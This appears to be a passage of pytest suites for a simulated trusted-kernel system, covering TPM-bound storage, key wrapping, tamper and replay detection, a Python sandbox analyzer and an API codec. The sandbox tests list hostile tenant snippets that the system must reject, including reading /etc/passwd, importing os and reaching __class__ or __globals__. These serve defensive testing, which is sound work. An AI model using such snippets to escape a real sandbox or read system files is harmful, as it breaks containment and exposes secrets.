        never a hybrid, and never an integrity surprise."""
        disk = Disk()
        tpm = TPM(seed=3)
        tpm.take_ownership(seed=4)
        vdirs = VDIRRegistry(disk, tpm)
        vdirs.format()
        vdir_id = vdirs.create(initial=b"\x00" * 32)
        committed = b"\x00" * 32
        for value in values[:-1]:
            vdirs.write(vdir_id, value)
            committed = value
        final = values[-1]
        disk.schedule_crash(after_writes=crash_step, mode=mode)
        try:
            vdirs.write(vdir_id, final)
            committed = final  # crash budget not consumed by this write
        except CrashError:
            pass
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) in (committed, final)


class TestVKeys:
    def test_symmetric_roundtrip(self):
        manager = VKeyManager()
        vkey = manager.create("symmetric")
        cipher = vkey.cipher()
        assert cipher.decrypt(cipher.encrypt(b"secret")) == b"secret"

    def test_signing_key(self):
        manager = VKeyManager()
        vkey = manager.create("signing", seed=13)
        sig = vkey.sign(b"msg")
        vkey.public_key().verify(b"msg", sig)

    def test_type_confusion_rejected(self):
        manager = VKeyManager()
        sym = manager.create("symmetric")
        signing = manager.create("signing", seed=13)
        with pytest.raises(CryptoError):
            sym.sign(b"m")
        with pytest.raises(CryptoError):
            signing.cipher()

    def test_destroy(self):
        manager = VKeyManager()
        vkey = manager.create()
        manager.destroy(vkey.vkey_id)
        with pytest.raises(NoSuchResource):
            manager.get(vkey.vkey_id)

    def test_externalize_internalize_roundtrip(self):
        manager = VKeyManager()
        vkey = manager.create("symmetric")
        blob = manager.externalize(vkey.vkey_id)
        restored = manager.internalize(blob)
        assert restored.material == vkey.material

    def test_externalize_signing_key(self):
        manager = VKeyManager()
        vkey = manager.create("signing", seed=17)
        blob = manager.externalize(vkey.vkey_id)
        restored = manager.internalize(blob)
        assert restored.keypair.n == vkey.keypair.n

    def test_wrap_under_other_vkey(self):
        manager = VKeyManager()
        wrapping = manager.create("symmetric")
        vkey = manager.create("symmetric")
        blob = manager.externalize(vkey.vkey_id, wrap_with=wrapping.vkey_id)
        restored = manager.internalize(blob, wrap_with=wrapping.vkey_id)
        assert restored.material == vkey.material

    def test_wrong_wrapping_key_rejected(self):
        manager = VKeyManager()
        wrapping = manager.create("symmetric")
        vkey = manager.create("symmetric")
        blob = manager.externalize(vkey.vkey_id, wrap_with=wrapping.vkey_id)
        with pytest.raises(CryptoError):
            manager.internalize(blob)  # root key, not `wrapping`

    def test_root_key_bound_to_tpm_state(self):
        t1 = TPM(seed=5)
        t1.take_ownership(seed=6)
        t1.extend(0, b"kernel-a")
        m1 = VKeyManager(tpm=t1)
        t2 = TPM(seed=5)
        t2.take_ownership(seed=6)
        t2.extend(0, b"kernel-b")
        m2 = VKeyManager(tpm=t2)
        assert m1.root.material != m2.root.material


class TestSSR:
    def _make(self, disk, vdirs, vkey=None, blocks=4, block_size=64):
        ssr = SecureStorageRegion("test", disk, vdirs, size_blocks=blocks,
                                  block_size=block_size, vkey=vkey)
        ssr.create()
        return ssr

    def test_block_roundtrip(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(0, b"A" * 64)
        assert ssr.read_block(0) == b"A" * 64

    def test_byte_granular_io(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write(100, b"hello world")
        assert ssr.read(100, 11) == b"hello world"
        # Straddles a block boundary (block_size=64).
        ssr.write(60, b"straddle!")
        assert ssr.read(60, 9) == b"straddle!"

    def test_out_of_range_io(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        with pytest.raises(StorageError):
            ssr.read(0, 64 * 4 + 1)
        with pytest.raises(StorageError):
            ssr.write(64 * 4, b"x")

    def test_encrypted_blocks_unreadable_on_disk(self, disk, vdirs):
        manager = VKeyManager()
        vkey = manager.create("symmetric")
        ssr = self._make(disk, vdirs, vkey=vkey)
        ssr.write_block(1, b"S" * 64)
        on_disk = disk.read_file("/ssr/test/1")
        assert on_disk != b"S" * 64
        assert ssr.read_block(1) == b"S" * 64

    def test_plaintext_mode_stores_plaintext(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(1, b"P" * 64)
        assert disk.read_file("/ssr/test/1") == b"P" * 64

    def test_tamper_detected_on_read(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(2, b"D" * 64)
        disk.corrupt_file("/ssr/test/2")
        with pytest.raises(IntegrityError):
            ssr.read_block(2)

    def test_tamper_localized_to_block(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(2, b"D" * 64)
        ssr.write_block(3, b"E" * 64)
        disk.corrupt_file("/ssr/test/2")
        assert ssr.read_block(3) == b"E" * 64  # other blocks still verify

    def test_replay_detected_on_open(self, disk, tpm, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(0, b"v1" + b"\x00" * 62)
        image = disk.snapshot()
        ssr.write_block(0, b"v2" + b"\x00" * 62)
        vdir_id = ssr.vdir_id
        # Attacker replays the old SSR blocks but cannot touch the VDIR.
        for name in list(image):
            if name.startswith("/ssr/"):
                disk.write_file(name, image[name])
        reopened = SecureStorageRegion("test", disk, vdirs, size_blocks=4,
                                       block_size=64)
        with pytest.raises(ReplayError):
            reopened.open(vdir_id)

    def test_reopen_after_reboot(self, disk, tpm, vdirs):
        ssr = self._make(disk, vdirs)
        ssr.write_block(0, b"persist!" + b"\x00" * 56)
        vdir_id = ssr.vdir_id
        recovered_vdirs = VDIRRegistry.recover(disk, tpm)
        reopened = SecureStorageRegion("test", disk, recovered_vdirs,
                                       size_blocks=4, block_size=64)
        reopened.open(vdir_id)
        assert reopened.read_block(0).startswith(b"persist!")

    def test_destroy_removes_blocks_and_vdir(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        vdir_id = ssr.vdir_id
        ssr.destroy()
        assert not disk.exists("/ssr/test/0")
        assert vdir_id not in vdirs

    def test_wrong_block_size_write(self, disk, vdirs):
        ssr = self._make(disk, vdirs)
        with pytest.raises(StorageError):
            ssr.write_block(0, b"short")

    @given(st.lists(st.tuples(st.integers(0, 255), st.binary(min_size=1,
                                                             max_size=40)),
                    min_size=1, max_size=8))
    @settings(max_examples=50, deadline=None)
    def test_write_read_property(self, writes):
        """An SSR behaves like a flat byte array (with verification)."""
        disk = Disk()
        tpm = TPM(seed=3)
        tpm.take_ownership(seed=4)
        vdirs = VDIRRegistry(disk, tpm)
        vdirs.format()
        ssr = SecureStorageRegion("prop", disk, vdirs, size_blocks=4,
                                  block_size=64)
        ssr.create()
        shadow = bytearray(4 * 64)
        for offset, data in writes:
            offset %= (4 * 64 - len(data))
            ssr.write(offset, data)
            shadow[offset:offset + len(data)] = data
        assert ssr.read(0, 4 * 64) == bytes(shadow)
