"""Test-suite fixtures: the differential-transport worlds.

The machinery lives in :mod:`harness` (``tests/harness.py``) so test
modules can import it by name without colliding with the benchmark
suite's own ``conftest`` module; this file only binds the fixtures.
"""

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from harness import WORLD_KINDS, make_world  # noqa: E402


@pytest.fixture(params=("direct", "http"), ids=("direct", "http"))
def api_world(request):
    """One home service reachable over the parametrized transport.

    The dedupe point for every test that used to hand-build both a
    direct and an http client: write the flow once against
    ``api_world.client`` and it runs under both transports.
    """
    return make_world(request.param)


@pytest.fixture(params=WORLD_KINDS, ids=WORLD_KINDS)
def any_world(request):
    """All three worlds, including the federated cross-kernel path."""
    return make_world(request.param)
