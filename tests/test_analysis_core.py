"""Tests for the analysis substrates and the core facade."""

import pytest

from repro import CredentialSet, Nexus
from repro.analysis import (
    IPCConnectivityAnalyzer,
    PythonSandboxAnalyzer,
    ReflectionRewriter,
    component_inventory,
    count_source_lines,
)
from repro.errors import AccessDenied, ProofError, SandboxViolation
from repro.kernel import NexusKernel
from repro.nal import parse


class TestIPCAnalyzer:
    def _world(self):
        kernel = NexusKernel()
        fs = kernel.create_process("fs-server")
        fs_port = kernel.create_port(fs.pid, "fs", handler=lambda *a: None)
        net = kernel.create_process("net-driver")
        net_port = kernel.create_port(net.pid, "net", handler=lambda *a: None)
        return kernel, fs, fs_port, net, net_port

    def test_no_connections_no_path(self):
        kernel, fs, fs_port, net, net_port = self._world()
        isolated = kernel.create_process("isolated")
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert not analyzer.has_path(isolated.pid, fs.pid)

    def test_direct_connection_found(self):
        kernel, fs, fs_port, net, net_port = self._world()
        app = kernel.create_process("app")
        kernel.ipc_call(app.pid, fs_port.port_id)
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert analyzer.has_path(app.pid, fs.pid)
        assert not analyzer.has_path(app.pid, net.pid)

    def test_transitive_connection_found(self):
        kernel, fs, fs_port, net, net_port = self._world()
        middle = kernel.create_process("middle")
        middle_port = kernel.create_port(middle.pid, "mid",
                                         handler=lambda: None)
        kernel.ipc_call(middle.pid, fs_port.port_id)  # middle → fs
        app = kernel.create_process("app")
        kernel.ipc_call(app.pid, middle_port.port_id)  # app → middle
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert analyzer.has_path(app.pid, fs.pid)

    def test_certify_no_path_issues_label(self):
        kernel, fs, fs_port, net, net_port = self._world()
        player = kernel.create_process("player")
        analyzer = IPCConnectivityAnalyzer(kernel)
        label = analyzer.certify_no_path(player.pid, "fs-server")
        expected = parse(f"{analyzer.process.path} says "
                         f"not hasPath(/proc/ipd/{player.pid}, fs-server)")
        assert label == expected
        assert kernel.labels.holds(expected)

    def test_certify_refuses_when_path_exists(self):
        kernel, fs, fs_port, net, net_port = self._world()
        app = kernel.create_process("app")
        kernel.ipc_call(app.pid, fs_port.port_id)
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert analyzer.certify_no_path(app.pid, "fs-server") is None

    def test_certify_isolation_all_or_nothing(self):
        kernel, fs, fs_port, net, net_port = self._world()
        app = kernel.create_process("app")
        kernel.ipc_call(app.pid, net_port.port_id)
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert analyzer.certify_isolation(
            app.pid, ["fs-server", "net-driver"]) is None
        clean = kernel.create_process("clean")
        labels = analyzer.certify_isolation(
            clean.pid, ["fs-server", "net-driver"])
        assert labels is not None and len(labels) == 2

    def test_kernel_binds_analyzer_principal(self):
        kernel, *_ = self._world()
        analyzer = IPCConnectivityAnalyzer(kernel)
        assert kernel.labels.holds(parse(
            f"Nexus says {analyzer.process.path} speaksfor IPCAnalyzer"))


class TestPythonSandbox:
    def test_clean_code_passes(self):
        analyzer = PythonSandboxAnalyzer()
        report = analyzer.analyze("import math\n"
                                  "def f(x):\n"
                                  "    return math.sqrt(x) + 1\n")
        assert report.legal
        assert report.imports == ["math"]

    def test_bad_import_rejected(self):
        analyzer = PythonSandboxAnalyzer()
        report = analyzer.analyze("import os\n")
        assert not report.legal
        assert "import outside whitelist: os" in report.violations

    def test_from_import_checked(self):
        analyzer = PythonSandboxAnalyzer()
        assert not analyzer.analyze("from subprocess import run\n").legal

    @pytest.mark.parametrize("snippet", [
        "eval('1+1')",
        "exec('x = 1')",
        "__import__('os')",
        "open('/etc/passwd')",
        "compile('x', 'f', 'exec')",
    ])
    def test_forbidden_calls(self, snippet):
        analyzer = PythonSandboxAnalyzer()
        assert not analyzer.analyze(snippet).legal

    def test_dunder_attribute_rejected(self):
        analyzer = PythonSandboxAnalyzer()
        assert not analyzer.analyze("x = (1).__class__\n").legal
        assert not analyzer.analyze("f = (lambda: 1).__globals__\n").legal

    def test_syntax_error_is_not_legal_python(self):
        analyzer = PythonSandboxAnalyzer()
        report = analyzer.analyze("def broken(:\n")
        assert not report.legal

    def test_require_legal_raises(self):
        analyzer = PythonSandboxAnalyzer()
        with pytest.raises(SandboxViolation):
            analyzer.require_legal("import socket\n")

    def test_reflection_calls_reported_not_fatal(self):
        analyzer = PythonSandboxAnalyzer()
        report = analyzer.analyze("y = getattr(obj, 'field')\n")
        assert report.legal  # the rewriter, not the analyzer, handles these
        assert "getattr" in report.reflection_calls


class TestReflectionRewriter:
    def test_rewrites_getattr(self):
        rewriter = ReflectionRewriter()
        rewritten, count = rewriter.rewrite("x = getattr(o, 'a')\n")
        assert "__guarded_getattr__" in rewritten
        assert count == 1

    def test_loaded_tenant_runs(self):
        rewriter = ReflectionRewriter()
        ns = rewriter.load_tenant(
            "import math\n"
            "def area(r):\n"
            "    return math.pi * r * r\n")
        assert abs(ns["area"](1.0) - 3.14159) < 0.001

    def test_guarded_getattr_blocks_dunder_escape(self):
        rewriter = ReflectionRewriter()
        ns = rewriter.load_tenant(
            "def escape(o):\n"
            "    return getattr(o, '__class__')\n")
        with pytest.raises(SandboxViolation):
            ns["escape"](object())

    def test_guarded_getattr_allows_plain_attrs(self):
        rewriter = ReflectionRewriter()
        ns = rewriter.load_tenant(
            "def get(o, name):\n"
            "    return getattr(o, name)\n")

        class Thing:
            field = 42
        assert ns["get"](Thing(), "field") == 42

    def test_runtime_import_blocked(self):
        rewriter = ReflectionRewriter()
        # `import json` is whitelisted; `import os` dies at analysis, and
        # even a whitelisted name resolves through the guarded importer.
        ns = rewriter.load_tenant("import json\n"
                                  "def dump(x):\n"
                                  "    return json.dumps(x)\n")
        assert ns["dump"]({"a": 1}) == '{"a": 1}'
        with pytest.raises(SandboxViolation):
            rewriter.load_tenant("import os\n")

    def test_no_raw_builtins_leak(self):
        rewriter = ReflectionRewriter()
        ns = rewriter.load_tenant("def f():\n    return 1\n")
        assert "eval" not in ns["__builtins__"]
        assert "open" not in ns["__builtins__"]

    def test_vars_and_dir_guarded(self):
        rewriter = ReflectionRewriter()
        ns = rewriter.load_tenant(
            "def fields(o):\n"
            "    return dir(o)\n")

        class Thing:
            x = 1
        assert "__class__" not in ns["fields"](Thing())


class TestSloc:
    def test_counts_code_not_comments(self):
        source = ("# comment\n"
                  "\n"
                  "x = 1\n"
                  "y = 2  # trailing comment still counts\n")
        assert count_source_lines(source) == 2

    def test_docstrings_excluded(self):
        source = ('"""Module docstring."""\n'
                  "def f():\n"
                  '    """Doc."""\n'
                  "    return 1\n")
        assert count_source_lines(source) == 3

    def test_multiline_statement_counts_each_line(self):
        source = "x = [1,\n     2,\n     3]\n"
        assert count_source_lines(source) == 3

    def test_component_inventory(self, tmp_path):
        (tmp_path / "a.py").write_text("x = 1\ny = 2\n")
        sub = tmp_path / "pkg"
        sub.mkdir()
        (sub / "b.py").write_text("z = 3\n")
        inventory = component_inventory({
            "flat": [tmp_path / "a.py"],
            "tree": [sub],
            "missing": [tmp_path / "nope.py"],
        })
        assert inventory == {"flat": 2, "tree": 1, "missing": 0}


class TestNexusFacade:
    def test_quickstart_flow(self):
        nexus = Nexus()
        owner = nexus.launch("owner")
        client = nexus.launch("client")
        resource = nexus.kernel.resources.create("/obj/report", "file",
                                                 owner.principal)
        nexus.set_goal(owner, resource, "read",
                       f"{owner.path} says mayRead(?Subject)")
        label = nexus.say(owner, f"mayRead({client.path})")
        wallet = CredentialSet([label])
        decision = nexus.request(client, "read", resource, wallet)
        assert decision.allow

    def test_request_without_credentials_denied(self):
        nexus = Nexus()
        owner = nexus.launch("owner")
        client = nexus.launch("client")
        resource = nexus.kernel.resources.create("/obj/x", "file",
                                                 owner.principal)
        nexus.set_goal(owner, resource, "read",
                       f"{owner.path} says never(?Subject)")
        decision = nexus.request(client, "read", resource)
        assert not decision.allow

    def test_request_with_invoke(self):
        nexus = Nexus()
        owner = nexus.launch("owner")
        resource = nexus.kernel.resources.create("/obj/y", "file",
                                                 owner.principal)
        result = nexus.request(owner, "read", resource, None,
                               lambda: "payload")
        assert result == "payload"

    def test_goal_for_none_by_default(self):
        nexus = Nexus()
        owner = nexus.launch("owner")
        resource = nexus.kernel.resources.create("/obj/z", "file",
                                                 owner.principal)
        assert nexus.goal_for(resource, "read") is None

    def test_credentials_of_collects_store(self):
        nexus = Nexus()
        proc = nexus.launch("speaker")
        nexus.say(proc, "p")
        nexus.say(proc, "q")
        wallet = nexus.credentials_of(proc)
        assert len(wallet) == 2

    def test_resource_lookup_by_name_and_id(self):
        nexus = Nexus()
        owner = nexus.launch("owner")
        resource = nexus.kernel.resources.create("/named", "file",
                                                 owner.principal)
        assert nexus.resource("/named").resource_id == resource.resource_id
        assert nexus.resource(resource.resource_id).name == "/named"

    def test_clock_authority_registration(self):
        nexus = Nexus()
        ticks = iter(range(100, 200))
        nexus.register_clock_authority("ntp", clock=lambda: next(ticks))
        assert nexus.kernel.authorities.query(
            "ntp", parse("NTP says TimeNow < 101"))
        assert not nexus.kernel.authorities.query(
            "ntp", parse("NTP says TimeNow < 100"))


class TestCredentialSet:
    def test_accepts_strings_formulas_labels(self):
        nexus = Nexus()
        proc = nexus.launch("p")
        label = nexus.say(proc, "fact")
        wallet = CredentialSet(["A says p", parse("B says q"), label])
        assert len(wallet) == 3
        assert "A says p" in wallet

    def test_dedup(self):
        wallet = CredentialSet(["A says p", "A says p"])
        assert len(wallet) == 1

    def test_bundle_for_unprovable(self):
        wallet = CredentialSet(["A says p"])
        with pytest.raises(ProofError):
            wallet.bundle_for("B says q")
        assert wallet.try_bundle_for("B says q") is None

    def test_extend(self):
        a = CredentialSet(["A says p"])
        b = CredentialSet(["B says q"], authorities={"C says r": "port-c"})
        a.extend(b)
        assert len(a) == 2
        assert a.authorities == {parse("C says r"): "port-c"}
