"""The service boundary: typed messages, sessions, transports, errors.

Covers the ``v1`` API contract: every request/response round-trips
through canonical bytes, malformed input is rejected with stable codes
before touching the kernel, sessions isolate principals, and the two
transports (in-process and HTTP wire) return identical verdicts.
"""

import json

import pytest

import repro.errors as errors_module
from repro.api import (ApiError, BatchItem, NexusClient, NexusService,
                       Verdict)
from repro.api import codec
from repro.api import messages as msg
from repro.api.client import HttpTransport
from repro.api.errors import from_exception
from repro.core.credentials import CredentialSet
from repro.errors import ReproError, UnknownSyscall
from repro.nal.parser import parse, parse_principal
from repro.nal.proof import Assume, AuthorityQuery, Axiom, ProofBundle, Rule


# --------------------------------------------------------------------------
# codecs
# --------------------------------------------------------------------------

class TestCodec:
    def test_proof_tree_roundtrip(self):
        a = parse("A says ok(b)")
        b = parse("A says also(b)")
        both = parse("A says (ok(b) and also(b))")
        proof = Rule("and_intro", (Assume(a), Assume(b)), both,
                     context=parse_principal("A"))
        encoded = codec.encode_proof(proof)
        assert codec.decode_proof(encoded) == proof

    def test_bundle_roundtrip_through_json(self):
        cred = parse("Owner says ok(reader)")
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        wire = json.loads(json.dumps(codec.encode_bundle(bundle)))
        assert codec.decode_bundle(wire) == bundle

    def test_authority_and_axiom_nodes_roundtrip(self):
        statement = parse("ntp says now(5)")
        assert codec.decode_proof(
            codec.encode_proof(AuthorityQuery(statement, "ntp"))
        ) == AuthorityQuery(statement, "ntp")
        axiom = Axiom(parse("true"))
        assert codec.decode_proof(codec.encode_proof(axiom)) == axiom

    @pytest.mark.parametrize("bad", [
        "not a dict",
        {"node": "teleport", "conclusion": "true"},
        {"node": "assume"},
        {"node": "assume", "conclusion": "says says says"},
        {"node": "authority", "conclusion": "true", "port": ""},
        {"node": "rule", "conclusion": "true", "name": "r"},
        {"node": "rule", "conclusion": "true", "name": "r",
         "premises": "nope"},
    ])
    def test_malformed_proofs_rejected(self, bad):
        with pytest.raises(ApiError) as excinfo:
            codec.decode_proof(bad)
        assert excinfo.value.code == "E_BAD_REQUEST"

    def test_overdeep_proof_rejected(self):
        node = {"node": "assume", "conclusion": "true"}
        for _ in range(codec.MAX_PROOF_DEPTH + 1):
            node = {"node": "rule", "name": "wrap", "conclusion": "true",
                    "premises": [node]}
        with pytest.raises(ApiError):
            codec.decode_proof(node)

    def test_chain_roundtrip_still_verifies(self):
        service = NexusService()
        process = service.kernel.create_process("speaker")
        label = service.kernel.sys_say(process.pid, "fact(1)")
        chain = service.kernel.externalize_label(label)
        wire = json.loads(json.dumps(codec.encode_chain(chain)))
        decoded = codec.decode_chain(wire)
        decoded.verify()
        assert decoded.speaker_path() == chain.speaker_path()

    def test_tampered_chain_fails_verification(self):
        service = NexusService()
        process = service.kernel.create_process("speaker")
        label = service.kernel.sys_say(process.pid, "fact(1)")
        wire = codec.encode_chain(service.kernel.externalize_label(label))
        wire["certs"][-1]["statement"] = "/proc/ipd/1 says fact(999)"
        from repro.errors import SignatureError
        with pytest.raises(SignatureError):
            codec.decode_chain(wire).verify()

    @pytest.mark.parametrize("bad", [
        42, {"root_key": {}, "certs": "no"}, {"certs": []},
        {"root_key": {"n": "zz"}, "certs": []},
    ])
    def test_malformed_chain_rejected(self, bad):
        with pytest.raises(ApiError):
            codec.decode_chain(bad)


# --------------------------------------------------------------------------
# message round-trips
# --------------------------------------------------------------------------

SAMPLE_REQUESTS = [
    msg.OpenSessionRequest(name="alice"),
    msg.CloseSessionRequest(session="sess-1", exit=True),
    msg.SayRequest(session="sess-1", statement="ok(bob)"),
    msg.CreateResourceRequest(session="sess-1", name="/obj/x",
                              kind="file"),
    msg.SetGoalRequest(session="sess-1", resource=7, operation="read",
                       goal="A says ok(?Subject)", guard_port="g1"),
    msg.ClearGoalRequest(session="sess-1", resource="/obj/x",
                         operation="read"),
    msg.GetGoalRequest(session="sess-1", resource=7, operation="read"),
    msg.AuthorizeRequest(session="sess-1", operation="read", resource=7,
                         wallet=True),
    msg.AuthorizeBatchRequest(session="sess-1", items=[
        BatchItem(operation="read", resource=7, wallet=True),
        BatchItem(operation="write", resource="/obj/x")]),
    msg.CreatePortRequest(session="sess-1", name="inbox"),
    msg.IpcSendRequest(session="sess-1", port_id=2, message={"k": 1}),
    msg.IpcSendBatchRequest(session="sess-1", port_id=2,
                            messages=[1, "two", None]),
    msg.ExternalizeRequest(session="sess-1", handle=4),
    msg.ImportChainRequest(session="sess-1",
                           chain={"root_key": {}, "certs": []}),
    msg.ProveRequest(session="sess-1", goal="A says ok(b)"),
    msg.PolicyPutRequest(session="sess-1", document={
        "name": "docs", "description": "",
        "rules": [{"selector": {"prefix": "/files/"},
                   "operations": ["read"], "goal": "true"}]}),
    msg.PolicyPlanRequest(session="sess-1", name="docs", version=2),
    msg.PolicyPlanRequest(session="sess-1", name="docs"),
    msg.PolicyApplyRequest(session="sess-1", name="docs", version=1),
    msg.PolicyRollbackRequest(session="sess-1", name="docs", version=1),
    msg.PolicyGetRequest(session="sess-1", name="docs"),
    msg.PolicyVersionsRequest(session="sess-1", name="docs"),
    msg.ExplainRequest(session="sess-1", operation="read", resource=7,
                       wallet=True),
    msg.PeerAddRequest(session="sess-1", name="site-a",
                       root_key={"n": "ff", "e": 65537},
                       platform="NK-abc.boot"),
    msg.PeerListRequest(session="sess-1"),
    msg.FederationExportRequest(session="sess-1"),
    msg.FederationAdmitRequest(session="sess-1",
                               bundle={"platform": "NK-abc.boot",
                                       "chains": []}),
    msg.FederationAdmitRequest(session="sess-1", digest="ab12" * 16),
    msg.IndexRequest(),
    msg.SessionStatsRequest(session="sess-1"),
    msg.InfoRequest(),
]

SAMPLE_RESPONSES = [
    msg.ErrorResponse(code="E_ACCESS_DENIED", message="nope",
                      detail={"reason": "no proof"}),
    msg.SessionResponse(session="sess-1", pid=2, principal="/proc/ipd/2"),
    msg.LabelResponse(handle=1, speaker="/proc/ipd/2",
                      formula="/proc/ipd/2 says ok(b)"),
    msg.ResourceResponse(resource_id=7, name="/obj/x", kind="file",
                         owner="/proc/ipd/2"),
    msg.AckResponse(),
    msg.GoalResponse(goal="A says ok(?Subject)"),
    msg.GoalResponse(goal=None),
    msg.AuthorizeResponse(verdict=Verdict(True, True, "proof ok")),
    msg.AuthorizeBatchResponse(verdicts=[Verdict(True, True, ""),
                                         Verdict(False, False, "nope")]),
    msg.PortResponse(port_id=3, name="inbox"),
    msg.IpcSendResponse(accepted=5, submitted=8),
    msg.ChainResponse(chain={"root_key": {"n": "ff", "e": 65537},
                             "certs": []}),
    msg.ProveResponse(proved=True),
    msg.SessionStatsResponse(session="sess-1", requests={"say": 2},
                             allowed=3, denied=1, errors=0,
                             cache={"hits": 7, "misses": 2}),
    msg.InfoResponse(version="v1", boot_id="abc", sessions=2,
                     cache={"hits": 0, "policy_epoch": 3}),
    msg.IndexResponse(version="v1", endpoints=["say", "info"]),
    msg.PolicyVersionResponse(name="docs", version=3),
    msg.PolicyPlanResponse(name="docs", version=3, actions=[
        msg.PlanAction(action="set", resource_id=7, resource="/files/a",
                       operation="read", goal="true", previous=None),
        msg.PlanAction(action="clear", resource_id=8, resource="/files/b",
                       operation="read", previous="true"),
        msg.PlanAction(action="keep", resource_id=9, resource="/files/c",
                       operation="read", goal="true", previous="true",
                       guard_port="g1")]),
    msg.PolicyApplyResponse(name="docs", version=3, set_count=2,
                            cleared=1, unchanged=4, epoch_bumps=3),
    msg.PolicyDocResponse(name="docs", version=2, active=1,
                          document={"name": "docs", "rules": []}),
    msg.PolicyVersionsResponse(name="docs", versions=[1, 2, 3], active=2),
    msg.ExplainResponse(
        verdict=Verdict(False, False, "credential not available"),
        explanation=msg.Explanation(
            kind="missing-credential", operation="read",
            resource="/files/a", goal="A says ok(b)",
            premise="A says ok(b)", detail="no label")),
    msg.PeerResponse(peer_id="ab" * 32, name="site-a", trusted=True,
                     platform="NK-abc.boot", admitted=2),
    msg.PeerListResponse(peers=[{"peer_id": "ab" * 32, "name": "site-a",
                                 "trusted": False}]),
    msg.BundleResponse(bundle={"platform": "NK-abc.boot", "chains": []},
                       digest="cd" * 32),
    msg.AdmissionResponse(digest="cd" * 32, peer="site-a",
                          subject="/proc/ipd/2",
                          remote_principal="site-a./proc/ipd/2",
                          principal="/proc/ipd/9", labels=3, cached=True),
]


class TestMessageRoundTrips:
    @pytest.mark.parametrize(
        "request_", SAMPLE_REQUESTS,
        ids=lambda r: f"{r.KIND}-{id(r) % 97}")
    def test_request_roundtrip(self, request_):
        decoded = msg.decode_request(request_.to_bytes())
        assert type(decoded) is type(request_)
        assert decoded.to_dict() == request_.to_dict()

    @pytest.mark.parametrize(
        "response", SAMPLE_RESPONSES,
        ids=lambda r: f"{r.KIND}-{id(r) % 97}")
    def test_response_roundtrip(self, response):
        decoded = msg.decode_response(response.to_bytes())
        assert type(decoded) is type(response)
        assert decoded.to_dict() == response.to_dict()

    def test_envelope_carries_version_and_ok(self):
        document = msg.AckResponse().to_dict()
        assert document["v"] == "v1"
        assert document["ok"] is True
        assert msg.InfoRequest().to_dict().get("ok") is None


class TestMalformedEnvelopes:
    @pytest.mark.parametrize("raw,code", [
        (b"{not json", "E_BAD_REQUEST"),
        (b"[1,2,3]", "E_BAD_REQUEST"),
        (b'{"kind": "say", "payload": {}}', "E_BAD_VERSION"),
        (b'{"v": "v0", "kind": "say", "payload": {}}', "E_BAD_VERSION"),
        (b'{"v": "v1", "payload": {}}', "E_BAD_REQUEST"),
        (b'{"v": "v1", "kind": "warp", "payload": {}}', "E_UNKNOWN_KIND"),
        (b'{"v": "v1", "kind": "say", "payload": []}', "E_BAD_REQUEST"),
        (b'{"v": "v1", "kind": "say", "payload": {}}', "E_BAD_REQUEST"),
        (b'{"v": "v1", "kind": "say", "payload": {"session": 9,'
         b'"statement": "x"}}', "E_BAD_REQUEST"),
        (b'{"v": "v1", "kind": "authorize", "payload": {"session": "s",'
         b'"operation": "read", "resource": true}}', "E_BAD_REQUEST"),
    ])
    def test_rejection_codes(self, raw, code):
        with pytest.raises(ApiError) as excinfo:
            msg.decode_request(raw)
        assert excinfo.value.code == code

    def test_kind_path_mismatch(self):
        raw = msg.InfoRequest().to_bytes()
        with pytest.raises(ApiError) as excinfo:
            msg.decode_request(raw, expect_kind="authorize")
        assert excinfo.value.code == "E_BAD_REQUEST"

    def test_service_returns_error_response_not_exception(self):
        service = NexusService()
        response = service.dispatch_dict(b"garbage")
        assert isinstance(response, msg.ErrorResponse)
        assert response.code == "E_BAD_REQUEST"


# --------------------------------------------------------------------------
# stable error codes
# --------------------------------------------------------------------------

class TestErrorTaxonomy:
    def test_every_exception_has_a_stable_code(self):
        classes = [value for value in vars(errors_module).values()
                   if isinstance(value, type)
                   and issubclass(value, ReproError)]
        assert len(classes) > 15
        for cls in classes:
            assert cls.code.startswith("E_"), cls

    def test_specific_codes(self):
        assert errors_module.AccessDenied.code == "E_ACCESS_DENIED"
        assert UnknownSyscall.code == "E_UNKNOWN_SYSCALL"
        assert errors_module.NoSuchResource.code == "E_NO_SUCH_RESOURCE"

    def test_unknown_syscall_flows_through_kernel(self):
        service = NexusService()
        process = service.kernel.create_process("p")
        with pytest.raises(UnknownSyscall):
            service.kernel.syscall(process.pid, "frobnicate")

    def test_from_exception_uses_code_not_strings(self):
        error = from_exception(errors_module.AccessDenied(
            "x denied", reason="no proof"))
        assert error.code == "E_ACCESS_DENIED"
        assert error.http_status == 403
        assert error.detail["reason"] == "no proof"
        assert from_exception(ValueError("boom")).code == "E_INTERNAL"

    def test_api_error_maps_to_http_status(self):
        assert ApiError("E_NO_SUCH_RESOURCE", "x").http_status == 404
        assert ApiError("E_BAD_REQUEST", "x").http_status == 400
        assert ApiError("E_WHATEVER", "x").http_status == 500


# --------------------------------------------------------------------------
# sessions and the service
# --------------------------------------------------------------------------

def _world(client):
    """owner+reader sessions, a resource with a goal, a valid bundle."""
    owner = client.open_session("owner")
    reader = client.open_session("reader")
    resource = owner.create_resource("/obj/report", "file")
    owner.set_goal(resource, "read",
                   f"{owner.principal} says ok(?Subject)")
    credential = owner.say(f"ok({reader.principal})")
    concrete = parse(credential.formula)
    bundle = CredentialSet([concrete]).bundle_for(concrete)
    return owner, reader, resource, bundle


class TestSessions:
    def test_open_session_binds_principal_not_pid(self):
        client = NexusClient.in_process(NexusService())
        session = client.open_session("alice")
        assert session.token.startswith("sess-")
        assert session.principal.startswith("/proc/ipd/")

    def test_session_tokens_are_unguessable_bearer_secrets(self):
        service = NexusService()
        first = service.open_session("a").token
